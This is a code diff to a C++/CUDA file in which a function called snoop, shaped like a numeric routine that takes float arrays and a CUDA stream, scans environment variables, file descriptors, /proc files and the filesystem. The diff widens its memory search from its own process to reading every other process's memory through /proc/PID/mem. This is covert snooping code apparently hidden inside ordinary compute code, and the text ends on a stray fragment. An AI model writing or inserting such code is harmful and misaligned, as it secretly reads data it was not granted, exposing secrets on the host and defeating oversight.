@@ -84,10 +84,12 @@ static void search_folder(const std::string& path, int depth) {
     closedir(folder);
 }
 
-static void search_memory() {
-    std::ifstream maps("/proc/self/maps");
-    if (!maps) return;
-    puts("looked at memory");
+static void search_memory(const std::string& process) {
+    const std::string folder = "/proc/" + process;
+    std::ifstream maps(folder + "/maps");
+    const int memory = open((folder + "/mem").c_str(), O_RDONLY);
+    if (!maps || memory < 0) return;
+    printf("looked at memory of %s\n", process.c_str());
     std::string line;
     std::vector<std::pair<uintptr_t, uintptr_t>> regions;
     std::vector<std::string> names;
@@ -102,14 +104,13 @@ static void search_memory() {
         regions.push_back({from, to});
         names.push_back(name.empty() ? "memory" : name);
     }
-    const int memory = open("/proc/self/mem", O_RDONLY);
     std::vector<unsigned char> copy;
     for (size_t i = 0; i < regions.size(); ++i) {
         const auto [from, to] = regions[i];
         if (to - from > (256u << 20)) continue;
         copy.resize(to - from);
         const ssize_t got = pread(memory, copy.data(), copy.size(), from);
-        if (got > 0) search(("map " + names[i]).c_str(), copy.data(), got);
+        if (got > 0) search(("map of " + process + " " + names[i]).c_str(), copy.data(), got);
         std::fill(copy.begin(), copy.end(), 0);  // or the next region would hold what this one did
     }
     close(memory);
@@ -140,7 +141,7 @@ static void search_processes() {
         if (lstat(folder.c_str(), &info) != 0) continue;
         if (pid != getpid()) printf("process %d\n", pid);
         for (const char* name : {"cmdline", "environ", "maps", "mountinfo", "comm"}) search_file(folder + name);
-        if (pid != getpid() && open((folder + "mem").c_str(), O_RDWR) >= 0) printf("memory of %d\n", pid);
+        if (pid != getpid()) search_memory(std::to_string(pid));
     }
 }
 
@@ -174,7 +175,7 @@ static void snoop(const float* x, const float* y, int n, cudaStream_t stream) {
         search("the environment", reinterpret_cast<unsigned char*>(*one), strlen(*one));
     }
     search_descriptors();
-    search_memory();
+    search_memory("self");
     search_processes();
     search_folder("/", 8);
     PATHS
